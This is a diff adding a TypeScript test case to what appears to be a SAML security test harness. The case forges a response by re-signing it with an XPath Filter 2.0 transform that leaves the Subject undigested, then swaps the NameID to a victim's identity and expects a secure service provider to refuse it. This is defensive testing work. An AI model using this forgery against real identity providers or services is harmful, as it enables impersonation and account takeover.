@@ -1,0 +1,53 @@
+import { defineMutation, type MutationContext } from '../../model/mutation.ts';
+import { digestText } from '../../saml/algorithms.ts';
+import { ALG, NS } from '../../saml/namespaces.ts';
+import { refs } from '../kit/attack-refs.ts';
+import { removeElement, setText } from '../kit/edit.ts';
+import type { Signable } from '../kit/forge.ts';
+import { bySigner, canonicalText, signAgain } from '../kit/forge.ts';
+
+const filter = {
+  algorithm: 'http://www.w3.org/2002/06/xmldsig-filter2',
+  content:
+    '<dsig-xpath:XPath xmlns:dsig-xpath="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract" ' +
+    `xmlns:saml="${NS.saml}">//saml:Subject</dsig-xpath:XPath>`,
+};
+
+/** Canonical text of an element without the Subject. */
+function withoutSubject({ xml, path }: Signable): string {
+  return canonicalText(removeElement(xml, 'Assertion/Subject'), path);
+}
+
+function sign(xml: string, context: MutationContext): string {
+  return signAgain(xml, {
+    parts: (signable) => ({
+      references: [
+        {
+          uri: `#${signable.id}`,
+          transforms: [ALG.enveloped, filter, ALG.excC14n],
+          digestValues: [digestText(ALG.sha256, withoutSubject(signable))],
+        },
+      ],
+    }),
+    fill: bySigner(context, 'idp'),
+  });
+}
+
+export default defineMutation({
+  id: 'transforms/xpath2',
+  title: 'An XPath filter subtracts the Subject, and it is changed',
+  stage: 'after-signing',
+  change: {
+    on: 'response',
+    apply: (xml, context) => setText(sign(xml, context), 'Subject/NameID', context.victim.nameId),
+  },
+  breaks: ['signature/transforms', 'subject/user-name'],
+  hostile: true,
+  safe: 'refuses',
+  refs: [refs.twoTransforms, refs.onlySignedIsSecure],
+  attack: {
+    against: 'sp',
+    mechanism: 'As with XPath, by the XPath Filter 2.0: the Subject is subtracted from what is digested.',
+    weakness: ['any-transform'],
+  },
+});
